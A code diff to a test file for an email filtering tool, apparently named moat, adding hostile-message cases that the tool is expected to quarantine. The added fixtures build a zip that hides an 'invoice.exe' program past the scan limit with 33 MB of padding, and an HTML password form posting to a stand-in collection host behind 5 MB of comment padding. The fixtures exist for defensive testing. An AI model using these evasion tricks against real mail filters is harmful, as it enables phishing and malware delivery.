@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { VerdictSchema, type Action } from '@moat/contract'
+import { peProgram } from '../engines/attachments/testing/samples.ts'
 import { buildZip } from '../engines/attachments/testing/zip-writer.ts'
 import { buildMessage } from '../testing/build-message.ts'
 import { bigMessage, manyPartsMessage, nestedMessage } from '../testing/hostile-messages.ts'
@@ -21,13 +22,15 @@ const cases: [string, () => Buffer, Action[]][] = [
   ['a message nested 100 levels deep', () => nestedMessage(100), ['quarantine']],
   ['a zip bomb (512 MB of zeros in 8 entries)', () => zipBombMessage(), ['quarantine']],
   ['a message cut off mid-part', () => nestedMessage(40).subarray(0, 1500), ['allow', 'flag', 'quarantine']],
-  ['1 MB of random bytes', () => randomBytes(1024 * 1024), ['allow', 'flag', 'quarantine']],
+  ['1 MB of random bytes', () => randomBytes(1024 * 1024), ['quarantine']],
   [
     'a 3 MB header block',
     () => Buffer.from(`Subject: x\r\nX-Pad: ${'a'.repeat(3 * 1024 * 1024)}\r\n\r\nbody`),
     ['quarantine'],
   ],
   ['5,000 MIME parts', () => manyPartsMessage(5000), ['quarantine']],
+  ['a program in a zip padded past the attachment limit', () => paddedZipMessage(), ['quarantine']],
+  ['a credential form behind 5 MB of HTML padding', () => paddedHtmlMessage(), ['quarantine']],
 ]
 
 describe('hostile input through the moat command line', () => {
@@ -49,6 +52,20 @@ describe('hostile input through the moat command line', () => {
     },
   )
 })
+
+/** A zip whose 33 MB of stored padding pushes its directory (and the program) past 32 MiB. */
+function paddedZipMessage(): Buffer {
+  const zip = buildZip([
+    { name: 'padding.bin', data: randomBytes(33 * 1024 * 1024), method: 'store' },
+    { name: 'invoice.exe', data: peProgram() },
+  ])
+  return buildMessage({ text: 'invoice attached', attachments: [{ filename: 'invoice.zip', content: zip }] })
+}
+
+function paddedHtmlMessage(): Buffer {
+  const form = '<form action="https://collect.example.net/p"><input type="password" name="p"></form>'
+  return buildMessage({ html: `<!-- ${'pad '.repeat(5 * 1024 * 256)} -->${form}` })
+}
 
 /** 8 entries of 64 MB of zeros each: 512 MB expanded from about 0.5 MB. */
 function zipBombMessage(): Buffer {
